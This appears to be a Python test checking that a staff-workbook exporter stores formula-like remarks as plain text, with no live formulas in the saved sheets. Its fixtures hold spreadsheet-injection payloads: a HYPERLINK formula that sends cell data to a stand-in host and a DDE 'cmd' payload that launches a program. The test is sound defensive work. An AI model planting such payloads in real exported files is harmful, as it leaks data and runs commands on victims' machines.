"""The staff workbook never holds a live formula: every text cell is written as text (data type s), read
back from the saved file (openpyxl's data_type, and no <f> element in any sheet's XML)."""
from __future__ import annotations

import zipfile

from openpyxl import load_workbook

from tests.tools.sheet_support import DRAFT, add_line_after, draft_project, exported, strategy_file

REMARKS = {"1-1-1-1": '=HYPERLINK("http://example.invalid/?"&A2,"詳細")', "1-1-1-2": "@SUM(1+1)*cmd|' /C calc'!A0",
           "1-1-2-1": "-2+3", "1-1-2-2": "+81 3 1234"}


def test_text_that_looks_like_a_formula_is_written_as_text(root, tmp_path):
    project = draft_project(root, tmp_path)
    for kpi_id, remark in REMARKS.items():
        escaped = remark.replace("\\", "\\\\").replace('"', '\\"')
        add_line_after(strategy_file(project, 1, DRAFT), kpi_id, "target", f'remarks: "{escaped}"')
    path, _ = exported(project)
    wb = load_workbook(path)
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)
    found = {c.value for c in texts}
    assert set(REMARKS.values()) <= found, "a remark did not come back exactly"
    numbers = [c for row in wb["KPI"].iter_rows(min_row=2) for c in row if isinstance(c.value, (int, float))]
    assert numbers and all(c.data_type == "n" for c in numbers)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
